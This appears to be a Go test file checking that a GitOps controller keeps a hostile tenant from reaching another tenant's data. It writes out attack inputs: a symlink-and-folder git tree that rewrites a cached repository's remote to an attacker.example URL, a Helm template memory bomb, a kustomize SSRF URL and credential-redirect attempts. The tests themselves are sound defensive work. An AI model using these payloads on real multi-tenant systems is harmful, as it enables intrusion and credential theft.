package controller_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-git/go-git/v5/plumbing/filemode"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	kv1 "github.com/keyless-cd/keyless/api/v1alpha1"
	"github.com/keyless-cd/keyless/internal/gitserver"
	"github.com/keyless-cd/keyless/internal/renderproc"
)

// teamB is the attacker: push access to its own repository and the right to
// create Applications in its own namespace, nothing else.
const (
	teamB     = "team-b"
	teamBRepo = "team-b/app"
)

func (e *env) tenantApp(ns, name, repoURL, revision, path, secret string) {
	e.t.Helper()
	app := &kv1.Application{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: kv1.ApplicationSpec{
			Source:     kv1.ApplicationSource{RepoURL: repoURL, TargetRevision: revision, Path: path},
			SyncPolicy: &kv1.SyncPolicy{Automated: &kv1.AutomatedSyncPolicy{Prune: true, SelfHeal: true}},
			Interval:   &metav1.Duration{Duration: 5 * time.Second},
		},
	}
	if secret != "" {
		app.Spec.Source.SecretRef = &kv1.LocalObjectReference{Name: secret}
	}
	if err := e.admin.Create(e.t.Context(), app); err != nil {
		e.t.Fatal(err)
	}
}

func (e *env) waitTenant(ns, name, what string, timeout time.Duration, ok func(*kv1.Application) bool) *kv1.Application {
	e.t.Helper()
	app := &kv1.Application{}
	waitFor(e.t, timeout, ns+"/"+name+" "+what, func() (bool, string) {
		if err := e.admin.Get(e.t.Context(), client.ObjectKey{Namespace: ns, Name: name}, app); err != nil {
			return false, err.Error()
		}
		return ok(app), condition(app, "Ready") + "; " + condition(app, "Stalled")
	})
	return app
}

func conditionSays(typ, text string) func(*kv1.Application) bool {
	return func(a *kv1.Application) bool {
		c := apimeta.FindStatusCondition(a.Status.Conditions, typ)
		return c != nil && c.Status == metav1.ConditionTrue && strings.Contains(c.Message, text)
	}
}

func readyFalseSays(text string) func(*kv1.Application) bool {
	return func(a *kv1.Application) bool {
		c := apimeta.FindStatusCondition(a.Status.Conditions, "Ready")
		return c != nil && c.Status == metav1.ConditionFalse && strings.Contains(c.Message, text)
	}
}

// TestTenantIsolation plays team B, an attacker who can push to its own
// repository and create Applications in its own namespace, against team A
// (appNS) sharing the same controller. Every attack must fail with a
// status naming the cause, leave A's state untouched, and leave the
// controller running.
func TestTenantIsolation(t *testing.T) {
	e := newEnv(t, teamB)
	ctx := t.Context()
	e.render = renderproc.Options{MemoryLimit: 256 << 20, Timeout: 20 * time.Second}
	e.startController(time.Hour)
	shaA := e.push(manifests("registry.example.com/web:1.0", "team-a-private"), nil, "team A's private deploy")
	e.tenantApp(appNS, "web", e.git.RepoURL(repoName), "main", "deploy", "myapp-git")
	e.waitApp("web", "team A synced", 60*time.Second, ready)
	if err := e.git.CreateRepo(ctx, teamBRepo, "main"); err != nil {
		t.Fatal(err)
	}
	var hits atomic.Int64
	tarpit := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { hits.Add(1) }))
	t.Cleanup(tarpit.Close)
	if _, err := e.git.Commit(ctx, teamBRepo, gitserver.Commit{Files: map[string]string{
		"bomb/Chart.yaml":         "apiVersion: v2\nname: bomb\nversion: 0.1.0\n",
		"bomb/templates/cm.yaml":  `{{ $s := "xxxxxxxx" }}{{ range until 40 }}{{ $s = print $s $s }}{{ end }}{{ len $s }}`,
		"ssrf/kustomization.yaml": "resources:\n- " + tarpit.URL + "/metadata\n",
	}}); err != nil {
		t.Fatal(err)
	}
	// Team B's own credential for its own repository.
	if err := e.admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "b-git", Namespace: teamB, Labels: map[string]string{kv1.CredentialLabel: kv1.CredentialGit}, Annotations: map[string]string{kv1.GitHostAnnotation: "127.0.0.1"}},
		StringData: map[string]string{"username": "b", "password": gitToken}}); err != nil {
		t.Fatal(err)
	}
	// Team A's cached bare repository, the first one in the cache.
	repoA := firstDir(t, filepath.Join(e.cacheDir, "repos"))
	configOfA := func() string {
		b, err := os.ReadFile(filepath.Join(repoA, "config"))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	controllerAlive := func() {
		t.Helper()
		select {
		case err := <-e.done:
			t.Fatalf("the controller stopped: %v", err)
		default:
		}
	}
	// teamAStillSyncs pushes a new commit for team A and waits until it is
	// applied: the attack did not stall or redirect anyone else.
	teamAStillSyncs := func(image string) {
		t.Helper()
		e.push(manifests(image, "team-a-private"), nil, "team A moves on")
		requestSync(t, e, image)
		e.waitImage(image, 60*time.Second)
	}

	t.Run("commit SHA without a credential", func(t *testing.T) {
		e.tenantApp(teamB, "steal-by-sha", e.git.RepoURL(repoName), shaA, "deploy", "")
		e.waitTenant(teamB, "steal-by-sha", "refused", 30*time.Second, readyFalseSays("authentication required"))
		if _, err := e.cs.CoreV1().ConfigMaps(teamB).Get(ctx, "settings", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			t.Fatalf("team A's ConfigMap was rendered into team B's namespace: %v", err)
		}
		controllerAlive()
	})

	t.Run("symlink and folder of one name into another repository's cache", func(t *testing.T) {
		before := configOfA()
		evil := "[remote \"origin\"]\n\turl = http://attacker.example/steal\n"
		_, err := e.git.CommitRaw(ctx, teamBRepo, "hostile", []gitserver.RawEntry{
			{Name: "x", Mode: filemode.Symlink, Content: "../../repos/" + filepath.Base(repoA)},
			{Name: "x", Entries: []gitserver.RawEntry{{Name: "config", Content: evil}}},
			{Name: "deploy", Entries: []gitserver.RawEntry{{Name: "cm.yaml", Content: "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\n"}}},
		})
		if err != nil {
			t.Fatal(err)
		}
		e.tenantApp(teamB, "hostile-tree", e.git.RepoURL(teamBRepo), "hostile", "deploy", "b-git")
		e.waitTenant(teamB, "hostile-tree", "refused", 30*time.Second, conditionSays("Stalled", "unsafe tree"))
		if after := configOfA(); after != before || strings.Contains(after, "attacker") {
			t.Fatalf("a cached repository's config changed:\n%s", after)
		}
		controllerAlive()
		teamAStillSyncs("registry.example.com/web:1.1")
	})

	t.Run("render memory bomb", func(t *testing.T) {
		e.tenantApp(teamB, "bomb", e.git.RepoURL(teamBRepo), "main", "bomb", "b-git")
		got := e.waitTenant(teamB, "bomb", "stalled by the memory limit", 60*time.Second, conditionSays("Stalled", "--render-memory-limit"))
		attempts := len(got.Status.History)
		controllerAlive()
		teamAStillSyncs("registry.example.com/web:1.2")
		// The same commit is not retried in a loop.
		if now := len(e.tenantGet(teamB, "bomb").Status.History); now != attempts {
			t.Errorf("the stalled commit was retried: history grew from %d to %d", attempts, now)
		}
	})

	t.Run("a Secret not meant as a Git credential", func(t *testing.T) {
		url, stolen := attacker(t)
		if err := e.admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: teamB},
			StringData: map[string]string{"password": "the-database-password"}}); err != nil {
			t.Fatal(err)
		}
		e.tenantApp(teamB, "exfiltrate", url, "main", ".", "db")
		e.waitTenant(teamB, "exfiltrate", "refused", 30*time.Second, conditionSays("Stalled", "is not labelled keyless.dev/credential=git"))
		if n := stolen.Load(); n != 0 {
			t.Fatalf("the Secret was sent to the attacker %d times", n)
		}
	})

	t.Run("a Git credential sent to another host", func(t *testing.T) {
		url, stolen := attacker(t)
		e.tenantApp(teamB, "redirect", url, "main", ".", "b-git")
		e.waitTenant(teamB, "redirect", "refused", 30*time.Second, conditionSays("Stalled", "not for localhost"))
		if n := stolen.Load(); n != 0 {
			t.Fatalf("team B's Git credential was sent to another host %d times", n)
		}
		controllerAlive()
	})

	t.Run("webhooks: one team cannot trigger another's syncs", func(t *testing.T) {
		token := "team-b-webhook-token-4f9c2a7e1d"
		if err := e.admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "keyless-webhook", Namespace: teamB},
			StringData: map[string]string{"gitlab": token}}); err != nil {
			t.Fatal(err)
		}
		post := func(path, repoURL, delivery string) (int, string) {
			t.Helper()
			body := `{"object_kind":"push","ref":"refs/heads/main","project":{"git_http_url":"` + repoURL + `"}}`
			req, _ := http.NewRequestWithContext(ctx, http.MethodPost, e.hookURL+path, strings.NewReader(body))
			req.Header.Set("X-Gitlab-Token", token)
			req.Header.Set("X-Gitlab-Event", "Push Hook")
			if delivery != "" {
				req.Header.Set("X-Gitlab-Event-UUID", delivery)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = resp.Body.Close() }()
			b, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, strings.TrimSpace(string(b))
		}
		if code, _ := post("/hooks/gitlab/"+appNS, e.git.RepoURL(repoName), ""); code != http.StatusUnauthorized {
			t.Errorf("team B's token on team A's path: %d, want 401", code)
		}
		if code, _ := post("/hooks/gitlab", e.git.RepoURL(repoName), ""); code != http.StatusUnauthorized {
			t.Errorf("team B's token on the controller-wide path: %d, want 401", code)
		}
		if code, out := post("/hooks/gitlab/"+teamB, e.git.RepoURL(repoName), ""); code != http.StatusOK || out != `{"triggered":0}` {
			t.Errorf("team B's path naming team A's repository: %d %s, want nothing of team A's triggered", code, out)
		}
		if code, out := post("/hooks/gitlab/"+teamB, e.git.RepoURL(teamBRepo), "delivery-1"); code != http.StatusOK || out == `{"triggered":0}` {
			t.Errorf("team B's own push: %d %s, want its Applications triggered", code, out)
		}
		if code, out := post("/hooks/gitlab/"+teamB, e.git.RepoURL(teamBRepo), "delivery-1"); code != http.StatusOK || !strings.Contains(out, `"duplicate":true`) {
			t.Errorf("a repeated delivery: %d %s, want it ignored", code, out)
		}
	})

	t.Run("a hand apply with keyless apply is drift", func(t *testing.T) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "cm.yaml"), []byte(manifests("", "changed-by-hand")["deploy/cm.yaml"]), 0o644); err != nil {
			t.Fatal(err)
		}
		if code, out, errOut := e.keyless("", "apply", dir, "-n", appNS, "--name", "web"); code != 0 {
			t.Fatalf("keyless apply: exit %d\n%s%s", code, out, errOut)
		}
		waitFor(t, 30*time.Second, "the hand-applied ConfigMap reverted by self-heal", func() (bool, string) {
			cm, err := e.cs.CoreV1().ConfigMaps(appNS).Get(ctx, "settings", metav1.GetOptions{})
			if err != nil {
				return false, err.Error()
			}
			return cm.Data["greeting"] == "team-a-private", cm.Data["greeting"]
		})
	})

	t.Run("a token in the repoURL never reaches status or Events", func(t *testing.T) {
		url := strings.Replace(e.git.RepoURL("team-b/missing"), "http://", "http://oauth2:glpat-s3cret-team-b@", 1)
		e.tenantApp(teamB, "leaky-url", url, "main", ".", "")
		got := e.waitTenant(teamB, "leaky-url", "Git failure reported", 30*time.Second, readyFalseSays("ls-remote"))
		for _, c := range got.Status.Conditions {
			if strings.Contains(c.Message, "s3cret") {
				t.Fatalf("condition %s shows the token: %s", c.Type, c.Message)
			}
		}
		events, err := e.cs.CoreV1().Events(teamB).List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, ev := range events.Items {
			if strings.Contains(ev.Message, "s3cret") {
				t.Fatalf("Event %s shows the token: %s", ev.Name, ev.Message)
			}
		}
	})

	t.Run("kustomize resource on a loopback URL", func(t *testing.T) {
		e.tenantApp(teamB, "ssrf", e.git.RepoURL(teamBRepo), "main", "ssrf", "b-git")
		e.waitTenant(teamB, "ssrf", "refused", 30*time.Second, conditionSays("Stalled", tarpit.URL))
		if n := hits.Load(); n != 0 {
			t.Fatalf("the render fetched the URL %d times", n)
		}
		controllerAlive()
	})
}

// attacker is a loopback Git "server" that counts requests carrying a
// credential.
func attacker(t *testing.T) (string, *atomic.Int64) {
	t.Helper()
	var stolen atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" {
			stolen.Add(1)
		}
		w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
		http.Error(w, "auth", http.StatusUnauthorized)
	}))
	t.Cleanup(srv.Close)
	// Named as localhost: another host than the Git server's 127.0.0.1.
	return strings.Replace(srv.URL, "127.0.0.1", "localhost", 1) + "/steal.git", &stolen
}

func (e *env) tenantGet(ns, name string) *kv1.Application {
	e.t.Helper()
	app := &kv1.Application{}
	if err := e.admin.Get(e.t.Context(), client.ObjectKey{Namespace: ns, Name: name}, app); err != nil {
		e.t.Fatal(err)
	}
	return app
}

func firstDir(t *testing.T, dir string) string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) == 0 {
		t.Fatalf("no cached repository in %s: %v", dir, err)
	}
	return filepath.Join(dir, entries[0].Name())
}
